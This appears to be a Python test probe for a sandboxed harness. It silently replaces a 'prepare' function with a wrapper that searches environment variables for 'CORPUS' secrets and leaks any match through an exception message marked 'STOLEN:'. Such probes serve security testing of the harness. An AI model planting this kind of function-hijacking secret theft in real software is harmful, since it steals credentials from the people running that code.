# what: looks for secrets in its own environment
# %% extra after=prepare
import os

honest_prepare = prepare


def attack():
    for name, value in os.environ.items():
        if "CORPUS" in name or "corpus" in value:
            return name + "=" + value


def prepare(passengers):
    try:
        loot = attack()
    except Exception:
        loot = None
    if loot:
        raise RuntimeError("STOL" "EN:" + str(loot)[:2000])
    return honest_prepare(passengers)
